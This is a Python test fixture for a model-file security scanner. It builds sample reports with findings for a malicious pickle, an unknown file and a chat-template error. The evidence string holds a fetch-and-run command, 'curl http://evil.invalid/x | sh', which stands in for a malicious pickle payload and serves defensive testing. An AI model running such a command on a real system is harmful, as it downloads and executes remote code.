"""Report values built by hand, so renderers are tested without depending on any analyzer."""

from __future__ import annotations

from scanner.model import (
    Artifact,
    Finding,
    Location,
    ProbeResult,
    Report,
    ScanError,
    Severity,
    SignatureResult,
)

EVIDENCE = "posix.system('curl http://evil.invalid/x | sh')"


def sample_report(**changes: object) -> Report:
    """A checkpoint with a critical pickle call, an unknown file, and a template finding with a line."""
    findings = (
        Finding(
            "PICKLE-EXEC-001",
            Severity.CRITICAL,
            "pytorch_model.bin!archive/data.pkl",
            "Loading this pickle runs a shell command.",
            location=Location(offset=57, opcode_index=12, stream=0, member="archive/data.pkl"),
            evidence=EVIDENCE,
            callable="posix.system",
            reference="CVE-2025-0000",
        ),
        Finding(
            "SCAN-UNKNOWN-001",
            Severity.MEDIUM,
            "extra/blob.dat",
            "The file's bytes match no known format, so it was not inspected.",
            evidence="first bytes: 00010203",
        ),
        Finding(
            "SCAN-ERROR-001",
            Severity.MEDIUM,
            "tokenizer_config.json",
            "The chat template could not be analyzed completely.",
            location=Location(line=3, pointer="/chat_template"),
        ),
    )
    artifacts = (
        Artifact("pytorch_model.bin", 548118077, "pytorch-zip", sha256="ab" * 32),
        Artifact("pytorch_model.bin!archive/data.pkl", 1200, "pickle", depth=1),
        Artifact("extra/blob.dat", 4096, "unknown"),
        Artifact("tokenizer_config.json", 900, "json"),
    )
    report = Report(
        target="models/tiny",
        tool_version="0.1.0",
        artifacts=artifacts,
        findings=findings,
        facts={"pytorch_model.bin": {"tensors": 3, "dtypes": ["float32"]}},
        timings={"scan": 0.01},
        bytes_read=2048,
        bytes_total=548123073,
        rules_version="0123456789abcdef",
        started_at="2026-01-02T03:04:05Z",
    )
    if changes:
        from dataclasses import replace

        report = replace(report, **changes)  # type: ignore[arg-type]
    return report


def clean_report() -> Report:
    return Report(
        target="models/clean",
        tool_version="0.1.0",
        artifacts=(Artifact("model.safetensors", 1024, "safetensors"),),
        findings=(),
    )


def full_report() -> Report:
    """With a signature, a probe result and an operational error, for schema coverage."""
    return sample_report(
        signature=SignatureResult(
            "verified",
            "signed by the expected identity",
            method="sigstore",
            signer="ci@example.invalid",
            log_index=7,
        ),
        probe=ProbeResult("no-finding", 0.02, "cpu", stages=({"name": "trigger-search", "steps": 10},)),
        errors=(ScanError("extra/blob.dat", "read timed out"),),
    )
